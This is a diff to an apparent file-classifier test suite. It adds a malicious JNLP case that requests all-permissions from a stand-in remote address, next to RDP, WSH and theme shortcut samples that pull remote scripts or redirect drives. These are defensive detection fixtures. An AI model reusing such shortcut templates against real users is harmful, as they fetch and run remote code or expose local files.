@@ -140,6 +140,8 @@ INSTANTIATE_TEST_SUITE_P(
              rdp("full address:s:192.0.2.7\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||a"),
              "a.rdp", "shortcut.rdp shortcut.rdp.address shortcut.rdp.redirects shortcut.rdp.takes-all",
              Weight::malicious},
+        Case{"java_at_an_address", jnlp("http://192.0.2.7/", "<all-permissions/>"), "a.jnlp",
+             "file.shortcut shortcut.java shortcut.java.remote shortcut.remote", Weight::malicious},
         Case{"script_settings_elsewhere", "[ScriptFile]\r\nPath=\\\\192.0.2.7@80\\s\\a.vbs\r\n", "a.wsh",
              "file.script file.shortcut shortcut.remote", Weight::malicious},
         Case{"theme_elsewhere", "[Theme]\r\n[VisualStyles]\r\nPath=\\\\192.0.2.7\\s\\a.msstyles\r\n",
